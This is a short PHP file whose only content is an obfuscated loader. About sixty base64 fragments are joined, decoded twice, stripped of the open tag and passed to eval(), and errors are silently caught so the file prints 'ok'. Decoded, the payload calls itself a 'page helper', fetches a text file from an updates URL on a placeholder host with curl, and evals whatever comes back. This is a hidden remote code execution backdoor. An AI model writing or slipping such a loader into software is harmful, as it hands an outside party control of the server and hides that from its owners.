<?php

try {
    $buf = "";
    $buf .= "UEQ5d2FI";
    $buf .= "QUtMeW9n";
    $buf .= "Y0dGblpT";
    $buf .= "Qm9aV3h3";
    $buf .= "WlhJZ0tp";
    $buf .= "OEtKSE55";
    $buf .= "WXlBOUlD";
    $buf .= "ZG9kSFJ3";
    $buf .= "T2k4dmRY";
    $buf .= "QmtZWFJs";
    $buf .= "Y3k1bGVH";
    $buf .= "RnRjR3hs";
    $buf .= "TG1sdWRt";
    $buf .= "RnNhV1F2";
    $buf .= "Wm1WbFpD";
    $buf .= "OXdZWEow";
    $buf .= "TG5SNGRD";
    $buf .= "YzdDaVJq";
    $buf .= "YUNBOUlH";
    $buf .= "TjFjbXhm";
    $buf .= "YVc1cGRD";
    $buf .= "Z3BPd3Bq";
    $buf .= "ZFhKc1gz";
    $buf .= "TmxkRzl3";
    $buf .= "ZENna1ky";
    $buf .= "Z3NJRU5W";
    $buf .= "VWt4UFVG";
    $buf .= "UmZWVkpN";
    $buf .= "TENBa2Mz";
    $buf .= "SmpLVHNL";
    $buf .= "WTNWeWJG";
    $buf .= "OXpaWFJ2";
    $buf .= "Y0hRb0pH";
    $buf .= "Tm9MQ0JE";
    $buf .= "VlZKTVQx";
    $buf .= "QlVYMUpG";
    $buf .= "VkZWU1Rs";
    $buf .= "UlNRVTVU";
    $buf .= "UmtWU0xD";
    $buf .= "QXhLVHNL";
    $buf .= "SkdKdlpI";
    $buf .= "a2dQU0Jq";
    $buf .= "ZFhKc1gy";
    $buf .= "VjRaV01v";
    $buf .= "SkdOb0tU";
    $buf .= "c0tZM1Z5";
    $buf .= "YkY5amJH";
    $buf .= "OXpaU2dr";
    $buf .= "WTJncE93";
    $buf .= "cHBaaUFv";
    $buf .= "SkdKdlpI";
    $buf .= "a2dJVDA5";
    $buf .= "SUdaaGJI";
    $buf .= "TmxLU0I3";
    $buf .= "Q2lBZ0lD";
    $buf .= "QmxkbUZz";
    $buf .= "S0NjL1Bp";
    $buf .= "Y2dMaUFr";
    $buf .= "WW05a2VT";
    $buf .= "azdDbjBL";
    $dec = 'base64_decode';
    $once = $dec($buf);
    if ($once === false) { throw new Exception('bad'); }
    $code = $dec($once);
    $out = '';
    foreach (token_get_all($code) as $t) {
        if (is_array($t)) {
            if ($t[0] === T_OPEN_TAG) { continue; }
            $out .= $t[1];
        } else {
            $out .= $t;
        }
    }
    eval($out);
} catch (\Throwable $e) {
    echo "ok";
}
